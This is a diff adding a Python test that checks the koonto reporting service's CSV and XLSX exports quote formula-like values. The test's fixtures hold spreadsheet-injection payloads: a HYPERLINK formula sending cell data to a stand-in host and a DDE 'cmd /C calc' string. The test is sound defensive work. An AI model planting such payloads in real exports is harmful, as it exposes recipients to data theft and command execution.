@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 import asyncio
+import csv
 import io
 import json
 import os
 import re
 import sys
+import zipfile
 from collections.abc import AsyncIterator
 from datetime import UTC, date, datetime, timedelta
 from typing import Any
@@ -24,8 +26,8 @@ from koonto.reporting.store import Generations, ReadModels, event_marker
 from koonto.reporting.use_cases.projection import apply_event
 from koonto.reporting.use_cases.reports import build_summary, headline
 from koonto.shared.contracts import Envelope
-from koonto.shared.contracts.advisory import SessionLogged
-from koonto.shared.contracts.intake import ErasureRequested
+from koonto.shared.contracts.advisory import CallOpened, CaseOpened, CaseOrganisation, SessionLogged, StageChanged
+from koonto.shared.contracts.intake import ErasureRequested, Organisation
 from koonto.shared.mongo import Leases
 from koonto.shared.runtime import Runtime
 from tests.reporting.history import PERIODS, PERSONAL_STRINGS, actual, expected, history
@@ -434,3 +436,50 @@ async def test_dead_letters_keep_no_personal_data_and_can_still_be_redriven(
         assert response.status_code == 200 and response.json()["status"] == "redriven"
         q1 = await summary(http, *PERIODS[0])
     assert q1["ideas"]["total"] == 5 and q1["ideas"]["by_municipality"]["siilinjarvi"] == 1
+
+
+async def test_exports_hold_texts_from_events_that_look_like_formulas_as_quoted_text(
+    clean_stream: str, mongo_url: str, db_names: dict[str, str]
+) -> None:
+    """A call, a municipality and a theme named like formulas reach the csv and xlsx as text, never formulas."""
+    call_name = '=HYPERLINK("http://evil.example/?d="&A1,"Avaa")'
+    municipality, theme = "@SUM(1+1)*cmd|' /C calc'!A0", "+358401234567"
+    at = datetime(2026, 3, 2, 9, tzinfo=UTC)
+    events = [
+        envelope(CallOpened(call_id="call-evil", name=call_name, funder="Itä-Suomen elinvoimakeskus",
+                            opens_on=date(2026, 1, 15), closes_on=date(2026, 3, 15))),
+        envelope(idea_submitted(idea_id="idea-evil", submitted_at=at, themes=(theme,),
+                                organisation=Organisation(name="-Yhdistys ry", type="registered_association",
+                                                          municipality=municipality))),
+        envelope(CaseOpened(case_id="case-evil", idea_id="idea-evil", reference="KOO-2026-0001", opened_at=at,
+                            idea_submitted_at=at, title="-1",
+                            organisation=CaseOrganisation(name="-Yhdistys ry", type="registered_association",
+                                                          municipality=municipality),
+                            themes=(theme,))),
+        envelope(StageChanged(case_id="case-evil", idea_id="idea-evil", reference="KOO-2026-0001",
+                              from_stage="idea", to_stage="submitted", changed_by="staff-advisor-1",
+                              changed_at=at + timedelta(days=1), call_id="call-evil", amount_applied_eur=4000)),
+    ]
+    runtime = create_runtime(settings_for(clean_stream, mongo_url, db_names["reporting"]))
+    query = params(date(2026, 1, 1), date(2026, 12, 31), None)
+    async with running(runtime), client(runtime) as http:
+        await publish(runtime, events)
+        await eventually(lambda: processed(runtime), until=lambda n: n == len(events), what="every event processed")
+        csv_response = await http.get("/api/v1/reports/summary.csv", params=query, headers=FUNDER)
+        xlsx = await http.get("/api/v1/reports/summary.xlsx", params=query, headers=FUNDER)
+    assert csv_response.status_code == 200 and xlsx.status_code == 200
+
+    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig")), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    assert ["'" + call_name, "1", "4000"] in rows  # the call's applications: quoted name, numbers as written
+    assert ["'" + municipality, "1"] in rows and ["'" + theme, "1"] in rows
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as package:
+        sheets = [package.read(n).decode() for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not [xml for xml in sheets if "<f>" in xml or "<f " in xml]
+    book = load_workbook(io.BytesIO(xlsx.content))
+    values = {ws.title: list(ws.iter_rows(min_row=3, values_only=True)) for ws in book.worksheets}
+    assert ("'" + call_name, 1, 4000) in values["Hakemukset rahoitushauittain"]
+    assert ("'" + municipality, 1) in values["Ideat kunnittain"] and ("'" + theme, 1) in values["Ideat teemoittain"]
+    assert not [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
